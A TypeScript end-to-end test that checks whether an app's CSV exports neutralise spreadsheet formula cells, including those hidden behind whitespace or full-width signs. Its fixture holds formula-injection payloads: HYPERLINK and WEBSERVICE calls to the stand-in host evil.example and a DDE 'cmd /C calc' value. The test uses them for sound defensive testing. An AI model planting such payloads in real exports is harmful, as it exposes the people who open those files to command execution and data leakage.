import Papa from "papaparse";
import { eq } from "drizzle-orm";
import { recordFormView } from "@/db/queries/forms";
import { createImport } from "@/db/queries/imports";
import { createSegment } from "@/db/queries/segments";
import { contacts, emailEvents, enrollments, forms, importIssues, messages } from "@/db/schema/index";
import { createLiveFlow, createTemplate, graph } from "../fixtures/flows";
import { expect, test } from "../fixtures/test";

/**
 * Every CSV download: a cell a spreadsheet would run as a formula comes out as text, whatever
 * hides its first sign — leading spaces, a tab, a no-break or ideographic space, or the
 * full-width forms of = + - @ that spreadsheets read as the ASCII ones.
 */

// Written here, apart from the app's own neutraliser, so the test does not grade itself.
const SIGNS = /^[\s\u00a0\u3000]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u;
const NUMBER = /^-?\d+(\.\d+)?$/;

const hostile = {
  name: " =HYPERLINK(\"http://evil.example\",\"x\")",
  lastName: "\t-2+3",
  flow: "\u00a0@SUM(1+1)",
  form: "\uff0bcmd|' /C calc'!A0",
  branchA: "\uff1d1+1",
  branchB: "=2+2",
  url: "\u3000=WEBSERVICE(\"http://evil.example\")",
  cell: "  @A1",
  header: "\uff20head",
};

function cellsOf(csv: string): string[] {
  return Papa.parse<string[]>(csv, { skipEmptyLines: true }).data.flat();
}

test("every CSV export neutralises formula cells, leading whitespace and full-width signs included", async ({ db, workspace, memberPage }) => {
  const ws = workspace.workspace;
  const when = new Date(Date.now() - 86_400_000);
  const day = when.toISOString().slice(0, 10);

  // A contact whose name would run as a formula; a segment of everyone to export it.
  const person = workspace.contacts[0]!;
  await db.update(contacts).set({ firstName: hostile.name, lastName: hostile.lastName }).where(eq(contacts.id, person.id));
  const segment = await createSegment(db, { workspaceId: ws.id, name: "Everyone", definition: { type: "group", match: "all", children: [] }, createdBy: null });

  // A flow with a split (its branch labels go into the flow export), one enrolment, one clicked mail.
  const templateId = await createTemplate(db, ws.id, "Hello");
  const { flowId, versionId } = await createLiveFlow(db, {
    workspaceId: ws.id,
    name: hostile.flow,
    graph: graph(
      [
        ["t", "manual-enrol"],
        ["sp", "random-split", { branches: [{ id: "a", label: hostile.branchA, weight: 50 }, { id: "b", label: hostile.branchB, weight: 50 }] }],
        ["s", "send-email", { templateId }],
        ["x", "exit"],
      ],
      [
        ["t", "next", "sp"],
        ["sp", "split:a", "s"],
        ["sp", "split:b", "s"],
        ["s", "next", "x"],
      ],
    ),
  });
  const [e] = await db
    .insert(enrollments)
    .values({ workspaceId: ws.id, flowId, flowVersionId: versionId, contactId: person.id, status: "exited", exitReason: "done", enteredAt: when })
    .returning({ id: enrollments.id });
  const [m] = await db
    .insert(messages)
    .values({ workspaceId: ws.id, contactId: person.id, flowId, enrollmentId: e!.id, nodeId: "s", templateId, class: "marketing", toEmail: person.email, subject: "Hi", status: "sent", sentAt: when })
    .returning({ id: messages.id });
  await db.insert(emailEvents).values([
    { workspaceId: ws.id, messageId: m!.id, contactId: person.id, type: "delivered", occurredAt: when, dedupeKey: "csv-d" },
    { workspaceId: ws.id, messageId: m!.id, contactId: person.id, type: "clicked", url: hostile.url, occurredAt: when, dedupeKey: "csv-c" },
  ]);

  // A form with a view, for the dashboard's forms table.
  const [form] = await db.insert(forms).values({ workspaceId: ws.id, name: hostile.form, slug: `csv-${ws.slug}`, status: "live" }).returning({ id: forms.id });
  await recordFormView(db, { workspaceId: ws.id, formId: form!.id, day });

  // An import whose report repeats the file's own header and cells.
  const imp = await createImport(db, {
    workspaceId: ws.id,
    fileName: "fair.csv",
    mode: "update",
    statement: "Signed up at the trade fair stand, paper forms on file",
    settings: { header: ["email", hostile.header], mapping: [{ target: "email" }, { target: "ignore" }], tags: [] },
    totalRows: 1,
    createdBy: workspace.owner.id,
  });
  await db.insert(importIssues).values({ importId: imp.id, rowNumber: 1, outcome: "rejected", reason: "email: not an address", raw: ["nobody", hostile.cell] });

  const { page } = await memberPage("admin");
  const base = `/w/${ws.slug}`;
  const exports: [string, string[]][] = [
    [`${base}/segments/${segment.id}/export`, [hostile.name, hostile.lastName]],
    [`${base}/contacts/import/${imp.id}/report`, [hostile.header, hostile.cell]],
    [`${base}/reports/export?range=30d`, [hostile.flow, hostile.form]],
    [`${base}/reports/flows/${flowId}/export?range=30d`, [hostile.branchA, hostile.branchB]],
    [`${base}/reports/flows/${flowId}/messages/s/export?range=30d`, [hostile.url]],
  ];
  for (const [url, planted] of exports) {
    const r = await page.request.get(url);
    expect(r.status(), url).toBe(200);
    expect(r.headers()["content-type"], url).toContain("text/csv");
    const cells = cellsOf(await r.text());
    // What was planted is there, as text: behind a leading apostrophe, otherwise unchanged (a
    // split's branch is labelled with its weight after it).
    for (const value of planted) expect(cells.some((c) => c.startsWith(`'${value}`)), `${url}: ${JSON.stringify(value)} in ${JSON.stringify(cells)}`).toBe(true);
    const live = cells.filter((c) => SIGNS.test(c) && !NUMBER.test(c));
    expect(live, url).toEqual([]);
  }
});
